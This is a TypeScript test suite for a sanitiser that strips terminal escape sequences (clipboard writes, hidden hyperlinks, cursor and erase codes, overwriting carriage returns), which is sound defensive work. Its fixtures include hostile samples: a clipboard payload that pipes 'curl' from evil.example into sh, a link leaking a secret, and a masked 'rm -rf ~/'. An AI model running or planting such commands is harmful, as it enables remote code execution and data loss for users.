import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findTerminalEscapes, stripTerminalEscapes } from './terminal.js';

const ESC = '\u001b';
const BEL = '\u0007';

describe('stripTerminalEscapes', () => {
  it('removes an OSC 52 clipboard write and reports it as high risk', () => {
    const payload = Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64');
    const text = `Copy this command: ls -la${ESC}]52;c;${payload}${BEL}`;
    const result = stripTerminalEscapes(text);
    expect(result.text).toBe('Copy this command: ls -la');
    expect(result.matches).toEqual([
      expect.objectContaining({
        type: 'terminal:osc52-clipboard',
        start: text.indexOf(ESC),
        end: text.length,
        confidence: 0.99,
      }),
    ]);
  });
  it('removes OSC 8 hyperlinks that hide their target, keeping the visible text', () => {
    const text = `Open ${ESC}]8;;https://evil.example/?q=secret${ESC}\\the docs${ESC}]8;;${ESC}\\ now`;
    const result = stripTerminalEscapes(text);
    expect(result.text).toBe('Open the docs now');
    expect(result.matches.map((m) => m.type)).toEqual(['terminal:hyperlink', 'terminal:hyperlink']);
  });
  it('removes CSI sequences that colour, move the cursor or erase', () => {
    const text = `${ESC}[31mred${ESC}[0m ok${ESC}[2K${ESC}[1A hidden`;
    const result = stripTerminalEscapes(text);
    expect(result.text).toBe('red ok hidden');
    expect(result.matches.every((m) => m.type === 'terminal:escape')).toBe(true);
    expect(result.matches).toHaveLength(4);
  });
  it('removes C1 controls (0x9B CSI, 0x9D OSC) and DCS strings', () => {
    const text = `a\u009b31mb\u009d52;c;Zm9v\u0007c${ESC}Pq#0;2;0;0;0${ESC}\\d`;
    const result = stripTerminalEscapes(text);
    expect(result.text).toBe('abcd');
    expect(result.matches.map((m) => m.type)).toEqual([
      'terminal:escape',
      'terminal:osc52-clipboard',
      'terminal:escape',
    ]);
  });
  it('turns a carriage return that would overwrite the line into a line break, drops backspaces', () => {
    const result = stripTerminalEscapes('rm -rf ~/\rls -la\r\nok\b\b');
    expect(result.text).toBe('rm -rf ~/\nls -la\r\nok');
    expect(result.matches.map((m) => m.type)).toEqual(['terminal:control', 'terminal:control']);
  });
  it('leaves an unterminated OSC visible as text', () => {
    const text = `x${ESC}]52;c;Zm9v`;
    const result = stripTerminalEscapes(text);
    expect(result.text).toBe('x52;c;Zm9v');
    expect(result.matches[0]).toMatchObject({ type: 'terminal:osc52-clipboard', start: 1, end: text.length });
  });
  it('leaves plain text, tabs and newlines alone', () => {
    const text = 'col1\tcol2\nline 2\r\nüñí 😀';
    expect(findTerminalEscapes(text)).toEqual([]);
  });
  it('is idempotent and leaves no escape (property)', () => {
    const pieces = [
      ESC,
      '[',
      ']',
      '52;c;',
      '8;;',
      BEL,
      '\\',
      '\u009b',
      '\u009d',
      '\u009c',
      'P',
      'm',
      '0',
      ';',
      'a',
      '\r',
      '\n',
      '\b',
      ' ',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
        const once = stripTerminalEscapes(parts.join('')).text;
        expect(stripTerminalEscapes(once).text).toBe(once);
        expect(once).not.toMatch(/[\u001b\u0080-\u009f\u0007\b]/);
      }),
      { numRuns: 2000 },
    );
  });
  it('is linear on unterminated strings', () => {
    const text = `${ESC}]`.repeat(100_000) + '\u009d'.repeat(100_000);
    const started = performance.now();
    stripTerminalEscapes(text);
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
